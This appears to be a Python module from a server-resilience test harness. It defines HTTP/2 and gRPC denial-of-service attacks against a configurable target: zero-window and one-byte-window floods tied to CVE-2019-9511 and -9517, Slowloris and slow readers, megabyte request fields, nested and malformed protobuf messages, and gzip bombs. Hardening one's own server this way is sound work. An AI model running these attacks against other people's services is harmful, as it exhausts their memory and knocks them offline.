"""Attacks on memory over HTTP/2: answers that the attacker does not take, texts that stay, messages that grow when they are read."""

import gzip
import time

import frames
from frames import END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, frame
from registry import attack
from wire import Wire

CLOSED = {INITIAL_WINDOW_SIZE: 0}


def behind_windows(run, one, count, connections):
    """So many requests on each of some connections whose windows are 0; held to the end."""
    wires = [Wire(run.target, settings=CLOSED) for _ in range(connections)]
    for wire in wires:
        wire.take(0.2)
        for start in range(0, count, 20):
            wire.send(b"".join(one(wire.stream()) for _ in range(min(20, count - start))))
            wire.take()
            run.sent += min(20, count - start)
            if run.is_over:
                break
            run.pause(0.005)
    while not run.is_over and any(wire.is_open for wire in wires):
        for wire in wires: wire.take()
        run.pause(0.1)
    run.ended(*wires)


@attack("1,000 ListModels in view FULL")
def lists_behind_window_0(run):
    """CVE-2019-9517 and -9511: whole answers that the attacker asks for and has no window for."""
    behind_windows(run, lambda stream: frames.request(stream, frames.LIST_MODELS, frames.FULL_LIST), 1_000, 1)


@attack("1,000 ListModels in view FULL on 10 connections", is_quick=False)
def lists_behind_ten_windows(run):
    """The same, divided so that no connection reaches its limit."""
    behind_windows(run, lambda stream: frames.request(stream, frames.LIST_MODELS, frames.FULL_LIST), 100, 10)


@attack("3 x 1,000 GET /metrics")
def metrics_behind_window_0(run):
    """CVE-2019-9511: answers that are made anew for each request."""
    head = frames.get("/metrics")
    behind_windows(run, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, head), 1_000, 3)


@attack("100 streams x 50 windows of 1 byte/s", is_quick=False)
def windows_of_one_byte(run):
    """CVE-2019-9511, data dribble: a large answer in DATA frames of one byte."""
    wire = Wire(run.target, settings=CLOSED)
    wire.take(0.2)
    streams = [wire.get("/v1/models?view=full") for _ in range(100)]
    for _ in run.ticks(50):
        wire.take()
        if not wire.is_open:
            break
        wire.send(b"".join(frames.window_update(stream, 1) for stream in streams))
        run.sent += len(streams)
    run.ended(wire)


@attack("200 large lists, 2 GB of window, nothing read")
def open_windows_unread(run):
    """CVE-2019-9517, internal data buffering: the windows are open, the TCP connection is not read."""
    wires = [Wire(run.target, settings={INITIAL_WINDOW_SIZE: frames.LARGEST_WINDOW}, receive_buffer=4_096) for _ in range(4)]
    for wire in wires:
        wire.send(frames.window_update(0, frames.LARGEST_WINDOW - 65_535))
        for _ in range(50):
            wire.get("/v1/models?view=full")
            run.sent += 1
    while not run.is_over:
        run.pause(0.2)
    run.ended(*wires)


def long_texts(run, path, body, answered_within=5):
    """1,024 calls whose status text would be long: each must be answered."""
    wire = Wire(run.target)
    wire.take(0.2)
    for _ in range(1_024):
        if run.is_over or not wire.is_open:
            break
        wire.call(path, body)
        wire.take()
        run.sent += 1
        # The windows: the server gives them back as it reads.
        while wire.uploads and wire.is_open and not run.is_over:
            wire.take(0.05)
            wire.upload()
    until = min(answered_within, max(1, run.seconds - run.passed))
    for stream in range(1, wire.next, 2):
        if wire.is_open and stream not in wire.done and wire.finish(stream, until, grants=False) is None:
            run.find(f"{run.sent - len(wire.done):,} of {run.sent:,} calls are not answered")
            break
    run.ended(wire)


@attack("1,024 calls")
def ids_of_20_000_bytes(run):
    """GetModel of an id so long that the status text exceeds the 64 KB of headers that nghttp2 sends."""
    long_texts(run, frames.GET_MODEL, frames.field(2, "x" * 20_000))


@attack("1,024 calls")
def services_of_30_000_bytes(run):
    """Health.Check of a service name of 30,000 bytes."""
    long_texts(run, frames.HEALTH_CHECK, frames.field(1, "s" * 30_000))


def texts_that_stay(run, path, body, streams=100):
    """Watches whose request texts have a megabyte each, 10 connections."""
    wires = [Wire(run.target, settings={INITIAL_WINDOW_SIZE: 1 << 20}) for _ in range(10)]
    for wire in wires:
        wire.take(0.2)
    for _ in range(streams):
        for wire in wires:
            if not wire.is_open or run.is_over:
                continue
            wire.call(path, body)
            run.sent += 1
            while wire.uploads and wire.is_open and not run.is_over:
                wire.take(0.02)
                wire.upload()
    while not run.is_over and any(wire.is_open for wire in wires):
        for wire in wires: wire.take()
        run.pause(0.1)
    run.ended(*wires)


@attack("1,000 watches with 1 MB each")
def health_watches_of_1_mb(run):
    """Health.Watch of a service name of a megabyte: a text that outlives its message."""
    texts_that_stay(run, frames.HEALTH_WATCH, frames.field(1, "s" * 1_000_000))


@attack("1,000 watches with 1 MB each")
def watches_of_1_mb(run):
    """WatchModels in a namespace whose name has a megabyte."""
    texts_that_stay(run, frames.WATCH_MODELS, frames.field(1, "n" * 1_000_000))


@attack("1,000 calls x 1 MB, none of them whole")
def unfinished_bodies(run):
    """Messages that announce 2 MB and stop after one: 10 connections of 100 streams."""
    wires = [Wire(run.target) for _ in range(10)]
    for wire in wires: wire.take(0.2)
    for _ in range(100):
        for wire in wires:
            if not wire.is_open or run.is_over:
                continue
            stream = wire.stream()
            wire.send(frame(HEADERS, END_HEADERS, stream, frames.call(frames.GET_MODEL)))
            body = memoryview(b"\0" + (2_000_000).to_bytes(4, "big") + bytes(1_000_000))
            run.sent += 1
            until = time.monotonic() + 0.5
            # The end of the body is kept back.
            while len(body) > 16_384 and wire.is_open and stream not in wire.done and time.monotonic() < until:
                body = wire.send_piece(stream, body)
                wire.take(0.0 if wire.window > 0 else 0.02)
    while not run.is_over and any(wire.is_open for wire in wires):
        for wire in wires: wire.take()
        run.pause(0.1)
    run.ended(*wires)


def hostile_messages(run, path, body, rate):
    """The same message again and again, each call answered before the next."""
    wire = Wire(run.target)
    for _ in run.ticks(rate):
        if not wire.is_open:
            run.ended(wire)
            wire = Wire(run.target)
        stream = wire.call(path, body)
        run.sent += 1
        if wire.finish(stream, 5) is None and wire.is_open:
            run.find("a call is not answered")
            break
    run.ended(wire)


@attack("20 messages/s of 10,000 levels")
def nested_messages(run):
    """CVE-2015-5237 and its kin: groups in groups, which end an unchecked parser's stack."""
    hostile_messages(run, frames.LIST_MODELS, b"\x2b" * 10_000 + b"\x2c" * 10_000, 20)


@attack("5 messages/s of 4 MB")
def messages_that_grow(run):
    """4 MB of empty sub-messages, 60 times as much when they are unpacked: protobuf-c's arrays of pointers."""
    hostile_messages(run, frames.WATCH_MODELS, b"\x2a\x00" * 2_000_000, 5)


@attack("20 messages/s")
def overlong_lengths(run):
    """Varints of more than ten bytes, and lengths beyond the message."""
    body = b"\x12" + b"\xff" * 12 + b"\x01" + b"\x0a\xff\xff\xff\xff\x0f" + b"\x10" + b"\x80" * 1_000_000
    hostile_messages(run, frames.LIST_MODELS, body, 20)


def gzip_messages(run, bodies, rate):
    """So many compressed messages a second, whether they are answered or not; at most 500 calls are open. The windows have
    room for all answers: none may be missing."""

    def opened():
        wire = Wire(run.target, settings={INITIAL_WINDOW_SIZE: frames.LARGEST_WINDOW})
        wire.send(frames.window_update(0, 1 << 30))
        return wire

    wire = opened()
    for due in run.ticks(rate):
        if not wire.is_open:
            run.ended(wire)
            wire = opened()
        for _ in range(min(due, 500 - (wire.next // 2 - len(wire.done)))):
            wire.call(frames.LIST_MODELS, bodies[run.sent % len(bodies)], "gzip")
            run.sent += 1
        wire.take()
        wire.upload()
    for stream in range(1, wire.next, 2):
        if wire.is_open and stream not in wire.done and not any(stream == waiting for waiting, _ in wire.uploads):
            if wire.finish(stream, 10, grants=False) is None:
                run.find("a call is not answered")
                break
    run.ended(wire)


@attack("500 messages/s of 5 KB that expand to 5 MB, and of 60 KB that expand to 60 MB")
def gzip_bombs(run):
    """CWE-409: gzip messages that expand a thousand times, beyond the limit of a message."""
    bodies = [gzip.compress(bytes(5 << 20), 9)] * 9 + [gzip.compress(bytes(60 << 20), 9)]
    run.begin()
    gzip_messages(run, bodies, 500)


@attack("200 messages/s of 4 KB, 64 KB and 1 MB")
def slow_gzip(run):
    """Gzip messages that take long to read and hold nothing: very many members, and very many blocks, without content."""
    member = gzip.compress(b"")
    # The header of a member, stored blocks of no byte (RFC 1951, 3.2.4), and no end.
    bodies = [
        body for size in (4_000, 64_000, 1_000_000)
        for body in (member * (size // len(member)), member[:10] + b"\0\0\0\xff\xff" * (size // 5))]
    gzip_messages(run, bodies, 200)


@attack("500 requests/s of 15,000 bytes")
def huge_paths(run):
    """`:path` as long as a block of headers allows."""
    wire = Wire(run.target)
    for count in run.ticks(500):
        if not wire.is_open:
            run.ended(wire)
            wire = Wire(run.target)
        for _ in range(count):
            wire.get("/v1/models/" + "a" * 15_000)
            run.sent += 1
        wire.take()
    run.ended(wire)


@attack("500 connections, 200/s, a byte a second each", tls_seconds=5, connections=500)
def slow_headers(run):
    """Slowloris over HTTP/2: 500 connections that send their first request byte by byte."""
    wires, due = [], 1.0
    request = frame(HEADERS, END_HEADERS | END_STREAM, 1, frames.get("/healthz"))
    for count in run.ticks(200):
        # An acknowledgement would stand within a frame.
        wires += [Wire(run.target, acknowledges=False) for _ in range(min(count, 500 - len(wires)))]
        if run.passed > due:
            due += 1
            for wire in wires:
                wire.take()
                at = wire.sent_count - len(frames.PREFACE) - 9
                run.sent += wire.send(request[at : at + 1])
    run.ended(*wires)


@attack("1,000 streams, 1 KB/s each")
def slow_readers(run):
    """Large lists that 1,000 streams of 10 connections read at 1 KB/s."""
    wires = [Wire(run.target, settings={INITIAL_WINDOW_SIZE: 1_000, MAX_FRAME_SIZE: 16_384}) for _ in range(10)]
    for wire in wires:
        wire.take(0.2)
        wire.send(frames.window_update(0, 1 << 24))
        for _ in range(100): wire.get("/v1/models?view=full")
    while not run.is_over and any(wire.is_open for wire in wires):
        run.pause(1)
        for wire in wires:
            wire.take()
            alive = [stream for stream in range(1, wire.next, 2) if stream not in wire.done]
            wire.send(b"".join(frames.window_update(stream, 1_000) for stream in alive))
            run.sent += len(alive)
    run.ended(*wires)
